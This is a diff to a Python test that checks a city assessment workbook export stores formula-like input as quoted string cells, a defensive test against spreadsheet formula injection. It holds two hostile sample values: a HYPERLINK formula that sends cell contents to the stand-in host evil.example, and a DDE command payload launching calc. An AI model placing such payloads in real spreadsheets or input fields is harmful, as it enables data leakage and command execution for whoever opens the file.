@@ -7,10 +7,13 @@ import io
 
 from openpyxl import load_workbook
 
-from assessments.models import ItemResponse, School
+from assessments.models import AssessmentStatus, ItemResponse, School
 from reports.workbook import city_workbook_write
 
+from .conftest import set_status
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+CONCLUSION = "=cmd|' /C calc'!A0"
 
 
 def test_formula_like_school_name_and_comments_are_string_cells(world, points_campaign):
@@ -25,6 +28,8 @@ def test_formula_like_school_name_and_comments_are_string_cells(world, points_ca
             comment,
         )
         response.save()
+    # the review's values reach the workbook once it is finalised, with its overall conclusion
+    set_status(points_campaign, AssessmentStatus.FINALISED, schools=[world.school_a1], conclusion=CONCLUSION)
     out = io.BytesIO()
     city_workbook_write(campaign=points_campaign, region=points_campaign.region, out=out)
     out.seek(0)
@@ -32,13 +37,13 @@ def test_formula_like_school_name_and_comments_are_string_cells(world, points_ca
 
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
-    hostile = {HYPERLINK: 0, "=1+1": 0, "-1": 0, "@SUM(A1:A9)": 0, "+86 10 1234": 0}
+    hostile = {HYPERLINK: 0, "=1+1": 0, "-1": 0, "@SUM(A1:A9)": 0, "+86 10 1234": 0, CONCLUSION: 0}
     for cell in cells:
         if cell.value in hostile:
             assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.coordinate)
             hostile[cell.value] += 1
     # the name in the summary and in each of the school's detail rows; each comment once
-    comments = {"=1+1": 1, "-1": 1, "@SUM(A1:A9)": 1, "+86 10 1234": 1}
+    comments = {"=1+1": 1, "-1": 1, "@SUM(A1:A9)": 1, "+86 10 1234": 1, CONCLUSION: 1}
     assert hostile == {HYPERLINK: 1 + responses.count(), **comments}
     names = [c for c in wb["学校汇总"]["C"] if c.value == HYPERLINK]
     assert names and names[0].offset(column=-1).value == "S-A1"
